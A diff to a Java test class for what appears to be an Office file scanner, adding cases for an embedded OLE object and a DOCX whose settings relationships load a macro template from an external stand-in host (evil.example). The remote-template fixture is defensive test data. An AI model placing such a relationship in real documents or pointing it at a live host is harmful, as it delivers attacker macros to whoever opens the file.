@@ -83,7 +83,17 @@ class FileContentTest {
         old.put("xl/macrosheets/sheet1.xml", text("<x/>"));
         Map<String, byte[]> control = docxParts();
         control.put("word/activeX/activeX1.bin", text("x"));
+        Map<String, byte[]> object = docxParts();
+        object.put("word/embeddings/oleObject1.bin", text("x"));
+        Map<String, byte[]> template = docxParts();
+        template.put(
+                "word/_rels/settings.xml.rels",
+                text("<Relationships><Relationship Id='a' Target='https://evil.example/t.dotm' TargetMode='External'"
+                        + " Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'/>"
+                        + "</Relationships>"));
         return Stream.of(
+                arguments("embedded object", Reason.MACRO, zip(object)),
+                arguments("template from elsewhere", Reason.MACRO, zip(template)),
                 arguments("DOCM", Reason.MACRO, ms("/word/document.xml", "word.document.macroEnabled.main+xml")),
                 arguments("XLSM", Reason.MACRO, ms("/xl/workbook.xml", "excel.sheet.macroEnabled.main+xml")),
                 arguments("XLSB", Reason.MACRO, ms("/xl/workbook.bin", "excel.sheet.binary.macroEnabled.main")),
